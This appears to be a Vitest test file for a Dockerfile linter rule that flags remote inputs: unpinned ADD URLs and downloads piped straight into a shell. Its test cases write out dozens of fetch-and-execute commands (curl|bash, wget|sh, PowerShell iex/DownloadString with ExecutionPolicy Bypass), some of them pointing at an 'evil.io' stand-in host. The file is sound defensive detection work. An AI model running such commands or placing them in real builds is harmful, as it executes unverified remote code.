import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { loadBaseline } from '../../../src/core/baseline/load-baseline.js';
import { matchRecords } from '../../../src/core/baseline/recorded-findings.js';
import { recordFindings, writeBaseline } from '../../../src/core/baseline/write-baseline.js';
import type { FileBuild } from '../../../src/core/dockerfile/variants/variant-options.js';
import { load, run } from '../../support/gate.js';

const ON = 'rules: { remote-input: warn }';
const COMMIT = '1f3870be274f6c49b3e31a0c6728957f1f3870be';

const hash = (content: Uint8Array | string) => `sha256:${createHash('sha256').update(content).digest('hex')}`;

const build = (args: Record<string, string>): FileBuild => ({
  file: 'compose.yml',
  line: 1,
  name: 'web',
  args: new Map(Object.entries(args)),
  unknownArgs: [],
  target: null,
  platforms: [],
  contexts: new Map(),
  problem: null,
});

/** What is found in instructions on an image: the text that findings are about. */
function find(instructions: string, policy = ON): string[] {
  return run(policy, `FROM busybox:1.37\n${instructions}`)
    .findings.filter(({ rule }) => rule === 'remote-input')
    .map(({ written }) => written);
}

describe('ADD', () => {
  it.each<[string, string[]]>([
    ['ADD https://a.io/x /', ['https://a.io/x']],
    ['ADD HTTP://a.io/x /', []],
    ['ADD http://a.io/x http://b.io/y local /', ['http://a.io/x', 'http://b.io/y']],
    ['ADD ["https://a.io/x", "/a b"]', ['https://a.io/x']],
    ['ADD "https://a.io/x" /', ['https://a.io/x']],
    ['ADD --chmod=755 https://a.io/$V/x /', ['https://a.io/$V/x']],
    ['ADD \\\n  https://a.io/x \\\n  /', ['https://a.io/x']],
    ['ADD --checksum=sha256:abc https://a.io/x /', []],
    ['ADD --checksum=$SUM https://a.io/x /', []],
    ['ADD $URL /', []],
    ['ADD x.tar.gz /', []],
    ['ADD https.txt /', []],
    ['COPY https://a.io/x /', []],
    ['ADD https://api.github.com/repos/a/b/git/refs/heads/main /v.json', []],
    ['ADD https://www.random.org/strings/?num=1 /nonce', []],
    ['ADD https://a.io/x /\nRUN echo "abc  /x" | sha256sum -c', []],
    ['ADD https://a.io/x /\nRUN ["gpg", "--verify", "/x"]', []],
    ['RUN sha256sum /etc/passwd\nADD https://a.io/x /', ['https://a.io/x']],
    ['ADD https://a.io/x /\nFROM busybox:1\nRUN sha256sum -c x', ['https://a.io/x']],
    ['ADD https://github.com/a/b.git /', ['https://github.com/a/b.git']],
    ['ADD https://github.com/a/b.git#main /', ['https://github.com/a/b.git#main']],
    ['ADD git@github.com:a/b.git#v1:docs /', ['git@github.com:a/b.git#v1:docs']],
    // a folder of the context to BuildKit
    ['ADD github.com/a/b /', []],
    [
      `ADD https://github.com/a/b.git#${COMMIT.slice(0, 12)} /`,
      [`https://github.com/a/b.git#${COMMIT.slice(0, 12)}`],
    ],
    [`ADD https://github.com/a/b.git#${COMMIT} /`, []],
    [`ADD https://github.com/a/b.git#${COMMIT}:docs /`, []],
    [`ADD https://github.com/a/b.git?ref=v1&checksum=${COMMIT} /`, []],
    [`ADD --checksum=${COMMIT} https://github.com/a/b.git#v1 /`, []],
    ['ADD https://github.com/a/b.git#$COMMIT /', []],
    ['ADD https://github.com/a/b.git#v$VERSION /', ['https://github.com/a/b.git#v$VERSION']],
    ['ADD https://github.com/a/b.git?ref=main /', ['https://github.com/a/b.git?ref=main']],
    [`ADD https://github.com/a/b.git?tag=${COMMIT} /`, [`https://github.com/a/b.git?tag=${COMMIT}`]],
    [`ADD https://github.com/a/b.git?ref=${COMMIT}&subdir=docs /`, []],
    [`ADD https://github.com/a/b.git?%72ef=${COMMIT} /`, []],
    [`ADD https://github.com/a/b%2Egit#${COMMIT} /`, []],
    [`ADD https://github.com/a/b.GIT#${COMMIT} /`, [`https://github.com/a/b.GIT#${COMMIT}`]],
    ['ADD ssh://git@a.io/b#main /', ['ssh://git@a.io/b#main']],
    ['ADD git://a.io/b /', ['git://a.io/b']],
    ['ADD deploy-user@a.io:b/c.git /', ['deploy-user@a.io:b/c.git']],
    [`ADD git@a.io:b?ref=${COMMIT} /`, []],
    ['ADD HTTPS://a.io/b.git /', ['HTTPS://a.io/b.git']],
    ['ADD ./git@a.io:b /', []],
    // an archive of a branch moves, one of a commit does not
    ...[
      ['https://github.com/a/b/archive/REF.tar.gz', 'main'],
      ['https://github.com/a/b/archive/REF.zip', 'refs/heads/main'],
      ['https://codeload.github.com/a/b/tar.gz/REF', 'v1'],
      ['https://api.github.com/repos/a/b/tarball/REF', 'main'],
      ['https://raw.githubusercontent.com/a/b/REF/x/install.sh', 'main'],
      ['https://gitlab.com/a/c/b/-/archive/REF/b-main.tar.gz', 'main'],
      ['https://bitbucket.org/a/b/get/REF.tar.gz', 'main'],
    ].flatMap(([url = '', ref = '']): [string, string[]][] => {
      const moving = url.replace('REF', ref);
      return [
        [`ADD ${moving} /`, [moving]],
        [`ADD ${url.replace('REF', COMMIT)} /`, []],
        [`ADD ${url.replace('REF', COMMIT.slice(1))} /`, [url.replace('REF', COMMIT.slice(1))]],
      ];
    }),
    [`ADD https://a.io/x/${COMMIT}/y /`, [`https://a.io/x/${COMMIT}/y`]],
    ['ADD https://api.github.com/repos/a/b/tarball /', ['https://api.github.com/repos/a/b/tarball']],
    ['ADD https://gitlab.com/api/v4/projects/1/repository/commits/main /v', []],
    ['ADD https://api.bitbucket.org/2.0/repositories/a/b/commits /v', []],
    // what the address of any other server means is that server's business
    ...[
      'https://a.io/api/v4/projects/1/repository/commits/main',
      `https://a.io/b/c/-/raw/${COMMIT}/install.sh`,
      `https://raw.githubusercontent.com.a.io/b/c/${COMMIT}/x`,
      `https://raw.githubusercontent.com/a/b/${COMMIT}/../main/x`,
      `https://raw.githubusercontent.com/a/b/${COMMIT}/%2E%2e/main/x`,
      'https://api.github.com/repos/a/b/git/../tarball/main',
    ].map((url): [string, string[]] => [`ADD ${url} /`, [url]]),
    ['ADD https://a.io/commits/install.sh /', ['https://a.io/commits/install.sh']],
    ['ADD https://a.io/commit/ /', ['https://a.io/commit/']],
  ])('%s', (text, expected) => {
    expect(find(text)).toEqual(expected);
  });
});

describe('a file of one commit that a shell runs', () => {
  const RAW = 'https://raw.githubusercontent.com/a/b';
  const FIXED = `${RAW}/${COMMIT}/install.sh`;
  it.each<[string, string[]]>([
    [`RUN curl -fsSL ${FIXED} | bash`, []],
    [`RUN curl --proto '=https' --tlsv1.2 --retry 3 -sSf "${FIXED}" | sh -s -- -y`, []],
    [`RUN wget -qO- ${FIXED} | sh`, []],
    [`RUN wget -q -O - ${FIXED} | sh`, []],
    [`RUN bash -c "$(curl -fsSL ${FIXED})"`, []],
    [`RUN bash <(curl -fsSL ${FIXED})`, []],
    [`RUN iwr ${FIXED} | iex`, []],
    [`RUN irm -UseBasicParsing -Uri '${FIXED}' | Invoke-Expression`, []],
    [`RUN iex (irm ${FIXED})`, []],
    [`RUN iex (iwr "${FIXED}" -useb).Content`, []],
    [`RUN Set-X -Force; iex ((New-Object System.Net.WebClient).DownloadString('${FIXED}'))`, []],
    [`RUN powershell -ExecutionPolicy Bypass -Command "irm ${FIXED} | iex"`, []],
    [`RUN iex (irm ${RAW}/main/x.ps1)`, [`${RAW}/main/x.ps1`]],
    [`RUN iex (irm ${FIXED} -SkipCertificateCheck)`, [FIXED]],
    [`RUN irm ${FIXED} -Proxy http://a.io | iex`, [FIXED]],
    [`RUN iex ((irm ${FIXED}) + $more)`, [FIXED]],
    [`RUN irm ${FIXED} | iex; irm https://a.io/x | iex`, ['https://a.io/x']],
    [`RUN irm ${RAW}/${COMMIT}/../main/x | iex`, [`${RAW}/${COMMIT}/../main/x`]],
    [`RUN $f = { irm https://a.io/x }; iex ("& { " + (irm ${FIXED}) + " }")`, [FIXED]],
    [`ENV C=${COMMIT}\nRUN curl -fsSL ${RAW}/$C/install.sh | bash`, []],
    [`RUN curl -fsSL ${RAW}/main/install.sh | bash`, [`${RAW}/main/install.sh`]],
    [`RUN C=${COMMIT}; curl -fsSL ${RAW}/$C/x | bash`, [`${RAW}/$C/x`]],
    // not it alone, or not from there
    [`RUN curl -fsSL ${FIXED} a.io/x | bash`, [FIXED]],
    [`RUN curl -fsSL ${FIXED} $MORE | bash`, [FIXED]],
    [`RUN curl -fsSLk ${FIXED} | bash`, [FIXED]],
    [`RUN curl -x a.io:80 ${FIXED} | bash`, [FIXED]],
    [`RUN curl --connect-to ::a.io ${FIXED} | bash`, [FIXED]],
    [`RUN curl -fsSL ${RAW}/${COMMIT}/{.}./{.}./x | bash`, [`${RAW}/${COMMIT}/{.}./{.}./x`]],
    [`RUN curl -fsSL ${RAW}/${COMMIT}/../main/x | bash`, [`${RAW}/${COMMIT}/../main/x`]],
    [`RUN cat <(curl ${FIXED}) <(curl https://a.io/x) | bash`, ['https://a.io/x']],
  ])('%s', (text, expected) => expect(find(text)).toEqual(expected));
});

describe('a download that a shell runs at once', () => {
  const URL = 'https://a.io/x.sh';
  it.each([
    `RUN curl -fsSL ${URL} | sh`,
    `RUN curl -fsSL '${URL}' | bash -`,
    `RUN \\curl -sSL "${URL}" | /bin/bash -s -- -y`,
    `RUN wget -qO- ${URL} | sudo -E bash -`,
    `RUN wget -q -O - ${URL} | A=b sh -s stable`,
    `RUN wget --output-document=- ${URL} | zsh`,
    `RUN apt-get update && curl ${URL} | bash && apt-get install -y x`,
    `RUN set -e; \\\n  curl ${URL} \\\n  | sed 's/a/b/' | bash`,
    `RUN if true; then curl ${URL} | sh; fi`,
    `RUN (curl ${URL} || wget -O- ${URL}) | sh`,
    `RUN curl ${URL} | tee log | sh -x`,
    `RUN sh -c "$(curl -fsSL ${URL})"`,
    `RUN bash -c "\`wget -O - ${URL}\`"`,
    `RUN eval "$(curl ${URL})"`,
    `RUN bash <(curl -s ${URL})`,
    `RUN . <(curl -s ${URL})`,
    `RUN ["/bin/sh", "-c", "curl ${URL} | sh"]`,
    `RUN <<EOF\ncurl ${URL} | sh\nEOF`,
    `RUN bash <<EOF\ncurl ${URL} | sh\nEOF`,
    `RUN --mount=type=cache,target=/c curl ${URL} | sh`,
    `RUN iwr -useb ${URL} | iex`,
    `RUN sh -c "curl ${URL} | sh"`,
    `RUN sudo -u node bash -lc 'curl ${URL} | bash'`,
    `RUN su - node -c "curl ${URL} | bash"`,
    `RUN bash -c "bash -c \\"curl '${URL}' | bash\\""`,
    `RUN ["bash", "-o", "pipefail", "-c", "curl ${URL} | bash"]`,
    `RUN ["sudo", "sh", "-c", "$(curl ${URL})"]`,
    `RUN bash -c "set -e; $(curl -fsSL ${URL})" -- --yes`,
    `RUN curl ${URL} -L -o - | sh`,
    `RUN curl -o /dev/stdout ${URL} | sh`,
    `RUN bash < <(curl ${URL})`,
    `RUN bash <<< "$(curl ${URL})"`,
    `RUN source <(curl ${URL})`,
    `RUN $(curl ${URL})`,
    `RUN echo "$(curl ${URL})" | bash`,
    `RUN cat <(curl ${URL}) | sudo bash`,
    `RUN wget -O- ${URL} | sudo bash`,
    `RUN wget -qO/dev/stdout ${URL} | bash`,
    `RUN curl ${URL} | timeout 60 bash -euo pipefail`,
    `RUN curl ${URL} | gosu node sh`,
    `RUN curl -sS ${URL} | php -- --install-dir=/usr/bin`,
    `RUN curl -sSL ${URL} | python3 -`,
    `RUN python <(curl ${URL})`,
    `RUN curl ${URL} | POETRY_HOME=/opt python`,
    `RUN <<-"EOF"\ncurl ${URL} | sh\nEOF`,
    `RUN <<EOF bash -ex\ncurl ${URL} | sh\nEOF`,
    `RUN set -e; sudo bash <<EOF\ncurl ${URL} | sh\nEOF`,
    `ONBUILD RUN curl ${URL} | sh`,
    `RUN iex (iwr ${URL})`,
    `RUN iex "& { $(irm ${URL}) } -Yes"`,
    `RUN Invoke-Expression (Invoke-WebRequest -UseBasicParsing -Uri ${URL}).Content`,
    `RUN iex ((New-Object System.Net.WebClient).DownloadString('${URL}'))`,
    `RUN Set-ExecutionPolicy Bypass; iex ((New-Object Net.WebClient).DownloadString("${URL}")); choco install -y git`,
    `RUN (New-Object Net.WebClient).DownloadString('${URL}') | iex`,
    `RUN irm ${URL} | iex`,
    `RUN & ([scriptblock]::Create((irm '${URL}'))) -Version 1`,
    `RUN powershell -NoProfile -Command "iex ((New-Object Net.WebClient).DownloadString('${URL}'))" && set X=1`,
    `RUN ["powershell", "-Command", "irm ${URL} | iex"]`,
    `SHELL ["powershell", "-Command"]\nRUN iwr ${URL} | iex`,
  ])('%s', (text) => {
    expect(find(text)).toEqual([URL]);
  });

  it.each([
    `RUN curl ${URL} | tar xz`,
    `RUN curl ${URL} | gpg --dearmor | tee /etc/key`,
    `RUN curl ${URL} | bash -c 'cat > f'`,
    `RUN curl ${URL} | sh local.sh`,
    `RUN curl -o f ${URL} && sh f`,
    `RUN curl -O ${URL} | sh`,
    `RUN wget ${URL} | sh`,
    `RUN curl ${URL} > f | sh`,
    `RUN curl ${URL} || sh -c 'exit 1'`,
    `RUN echo "curl ${URL} | sh"`,
    `RUN X=$(curl ${URL}) sh script`,
    `RUN # curl ${URL} | sh`,
    `RUN <<EOF\n#!/usr/bin/env python3\nprint("curl ${URL} | sh")\nEOF`,
    `RUN python3 <<EOF\ncurl ${URL} | sh\nEOF`,
    `RUN ["curl", "${URL}", "|", "sh"]`,
    `CMD curl ${URL} | sh`,
    `ONBUILD CMD curl ${URL} | sh`,
    `RUN curl ${URL} | python3 -c 'import json'`,
    `RUN curl ${URL} | python -m json.tool`,
    `RUN curl ${URL} | perl -pe s/a/b/`,
    `RUN curl ${URL} | node convert.js`,
    `RUN curl ${URL} | php -r 'echo 1;'`,
    `RUN sh -c "curl ${URL} | tar xz"`,
    `RUN sh -c 'curl -o f ${URL} && sh f'`,
    `RUN V="$(curl ${URL})" && echo "$V"`,
    `RUN echo $(curl ${URL}) > v && sh build.sh`,
    `RUN iwr ${URL} -OutFile x.ps1; iex ./x.ps1`,
    `RUN echo "iex (iwr ${URL})"`,
    `RUN (New-Object Net.WebClient).DownloadString('${URL}') | Out-File x`,
    `RUN iex --version && curl -o x ${URL}`,
    `RUN cat <<EOF > f\ncurl ${URL} | sh\nEOF`,
  ])('is not %s', (text) => {
    expect(find(text)).toEqual([]);
  });

  it('is shown by its command where the URL is not written', () => {
    expect(find('RUN curl -sL $URL | sh')).toEqual(['curl -sL $URL']);
  });
});

describe('what a name stands for', () => {
  it.each<[string, string[]]>([
    ['ARG U=a.io\nADD https://$U/x /', ['https://a.io/x']],
    [`ENV U=a.io V=2\nADD https://\${U}/x-$V /`, ['https://a.io/x-2']],
    ['ENV U a.io\nADD https://$U/x /', ['https://a.io/x']],
    ['ARG H="a.io" P=x\nARG U=https://$H/$P\nADD $U /', ['https://a.io/x']],
    ['ARG V=1\nENV V=$V\nADD https://a.io/$V /', ['https://a.io/1']],
    ['ENV V=2\nARG V=1\nADD https://a.io/$V /', ['https://a.io/2']],
    // not known, or not plain
    ['ARG U\nADD https://$U/x /', ['https://$U/x']],
    [`ADD https://a.io/\${V:-1} /`, [`https://a.io/\${V:-1}`]],
    ['ADD https://$U/x /\nARG U=a.io', ['https://$U/x']],
    ["ENV U='a b'\nADD https://a.io/$U /", ['https://a.io/a b']],
    ['ARG C=main\nADD https://a.io/b.git#$C /', ['https://a.io/b.git#main']],
    [`ARG C=${COMMIT}\nADD https://a.io/b.git#$C /`, []],
    ['ARG S=\nADD --checksum=$S https://a.io/x /', ['https://a.io/x']],
    ['ENV U=a.io\nRUN curl https://$U/x | sh', ['https://a.io/x']],
    ['ENV U=a.io\nRUN U=b.io; curl https://$U/x | sh', ['https://$U/x']],
    ['ONBUILD ADD https://$U/x /', ['https://$U/x']],
    ['FROM busybox AS b\nARG U=a.io\nFROM b\nADD https://$U/x /', ['https://a.io/x']],
  ])('%s', (text, expected) => {
    expect(find(text)).toEqual(expected);
  });

  it('is what is declared before the first FROM, unless a build gives it', () => {
    const text = 'ARG U=a.io\nFROM busybox:1\nARG U\nADD https://$U/x /\n';
    expect(run(ON, text).findings.map(({ written }) => written)).toEqual(['https://a.io/x']);
    const builds = { Dockerfile: [build({ U: 'b.io' })] };
    expect(run(ON, text, { builds }).findings.map(({ written }) => written)).toEqual(['https://$U/x']);
  });
});

describe('the finding', () => {
  it('is at the instruction, in the role of the stage', () => {
    const text = 'FROM busybox:1 AS a\nADD https://a.io/x /\nFROM busybox:1\n\nRUN curl \\\n b | sh';
    const { findings } = run(ON, text);
    expect(findings.map(({ line, endLine, role, image }) => [line, endLine, role, image])).toEqual([
      [2, 2, 'build', null],
      [5, 6, 'final', null],
    ]);
  });

  it('is about stages that nobody builds too, and about triggers where they run', () => {
    expect(find('FROM busybox:1 AS b\nADD https://a.io/x /\nFROM busybox:1')).toEqual(['https://a.io/x']);
    expect(find('ONBUILD ADD https://a.io/x /')).toEqual(['https://a.io/x']);
    expect(run(ON, 'FROM busybox:1 AS a\nONBUILD ADD https://a.io/x /\nFROM a').findings).toMatchObject([
      { line: 2, role: 'final' },
    ]);
  });

  it('is judged by roles and paths', () => {
    const policy = load('overrides: [{ roles: [final], rules: { remote-input: block } }]');
    const text = 'FROM busybox:1 AS a\nADD https://a.io/x /\nFROM busybox:1\nADD https://a.io/y /';
    expect(run(policy, text).findings).toMatchObject([
      { line: 4, level: 'block', written: 'https://a.io/y' },
    ]);
  });

  it('is excepted by a comment', () => {
    const policy = `${ON}\nsettings: { inline-exceptions: true }`;
    const comment = '# gate: allow remote-input owner=@a expires=2026-10-01 -- vendor\n';
    const [finding] = run(policy, `FROM busybox:1\n${comment}ADD https://a.io/x /`).findings;
    expect(finding?.rule).toBe('remote-input');
  });

  it('is known to the base', () => {
    const text = 'FROM busybox:1\nADD https://a.io/x /\n';
    const base = { Dockerfile: { text } };
    const judge = (head: string) =>
      run(ON, head, { base, scope: 'changed-references' }).findings.map(({ existing }) => existing);
    expect(judge(`${text}USER 1000\n`)).toEqual([true]);
    expect(judge('FROM busybox:1\nADD https://a.io/y /\n')).toEqual([false]);
  });

  it.each<[string, string, boolean]>([
    ['ARG U=a.io\nADD https://$U/x /', 'ADD https://a.io/x /', true],
    ['ARG U=a.io\nADD https://$U/x /', 'ARG U=evil.io\nADD https://$U/x /', false],
    [`ENV U=\${W:-a.io}\nADD https://$U/x /`, `ENV U=\${W:-evil.io}\nADD https://$U/x /`, false],
    [`ENV U=\${W:-a.io}\nADD https://$U/x /`, `ENV U=\${W:-a.io}\nUSER 1\nADD https://$U/x /`, true],
    ['ARG U\nADD https://$U/x /', `ARG U=evil.io\nARG U=\${U:-b}\nADD https://$U/x /`, false],
    ['RUN curl https://a.io/x | sh', 'RUN curl https://a.io/x https://evil.io | sh', false],
    ['RUN curl https://a.io/x | sh', 'RUN curl --connect-to ::evil.io https://a.io/x | sh', false],
    ['RUN curl https://a.io/x | sh', "RUN curl https://a.io/x | sed 's/a/evil/' | sh", false],
    ['RUN curl https://a.io/x | sh', 'RUN apk add git && curl  https://a.io/x | sh', true],
    ['RUN curl $U | sh', 'ENV U=evil.io\nRUN curl $U | sh', false],
    ['RUN U=a.io; curl $U | sh', 'RUN U=evil.io; curl $U | sh', false],
    ['RUN for U in a.io; do curl $U | sh; done', 'RUN for U in evil.io; do curl $U | sh; done', false],
    ['RUN sh -c "$(curl $U)"', 'ARG U=evil.io\nRUN sh -c "$(curl $U)"', false],
    ['RUN iex (irm $env:U)', 'RUN iex (irm $env:V)', false],
  ])('of the base excuses only what fetches the same: %s → %s', (before, after, expected) => {
    const base = { Dockerfile: { text: `FROM busybox:1\n${before}\n` } };
    const head = `FROM busybox:1\n${after}\n`;
    const { findings } = run(ON, head, { base, scope: 'changed-references' });
    expect(findings.map(({ existing }) => existing)).toEqual([expected]);
    // and so does a baseline
    const written = recordFindings(run(ON, `FROM busybox:1\n${before}\n`, { hash }).findings);
    const text = writeBaseline({ expires: null, ...written });
    const { baseline } = loadBaseline('b.yml', text);
    const { records } = matchRecords(
      run(ON, head, { hash }).findings,
      baseline ?? { expires: null, files: [] },
    );
    expect(written.unrecorded).toEqual([]);
    expect(records.size).toBe(expected ? 1 : 0);
  });

  it('of what a build gives is another with another value', () => {
    const text = 'FROM busybox:1\nARG U\nADD https://$U/x /\n';
    const wordsOf = (given: Record<string, string>) =>
      run(ON, text, { hash, builds: { Dockerfile: [build(given)] } }).findings.map(({ words }) => words);
    expect(wordsOf({ U: 'a.io' })).toEqual(wordsOf({ U: 'a.io', V: '1' }));
    expect(wordsOf({ U: 'a.io' })).not.toEqual(wordsOf({ U: 'evil.io' }));
  });

  it('says what to write', () => {
    const fixOf = (text: string) => run(ON, `FROM busybox:1\n${text}`).findings[0]?.fix?.description;
    expect(fixOf('ARG V=2\nADD https://a.io/$V /')).toContain('--checksum=sha256:… https://a.io/2');
    expect(fixOf('ADD https://a.io/b.git?ref=v1 /')).toContain('https://a.io/b.git#COMMIT');
    expect(fixOf('RUN curl https://a.io/x | sh')).toContain('Download https://a.io/x to a file');
  });
});

describe('a server of the build itself', () => {
  it.each([
    'curl http://localhost/a.sh | sh',
    'curl -fsSL http://localhost:8000/a.sh | sh',
    'curl -s localhost:8000/a | bash',
    'wget -qO- http://127.0.0.1:80/a | sh',
    'sh -c "$(curl -s http://[::1]:8000/a)"',
  ])('%s is not elsewhere', (script) => {
    expect(find(`RUN ${script}`)).toEqual([]);
  });

  it.each([
    'curl http://localhost.a.io/a | sh',
    'curl http://localhost@a.io/a | sh',
    'curl http://localhost:8000@a.io/a | sh',
    'curl -x http://a.io http://localhost/a | sh',
    'curl --connect-to ::a.io:80 http://localhost/a | sh',
    'curl http://localhost/a https://a.io/b | sh',
    'curl http://127.0.0.1.a.io/a | sh',
    'curl http://$HOST/a | sh',
  ])('%s may be', (script) => {
    expect(find(`RUN ${script}`)).toHaveLength(1);
  });
});
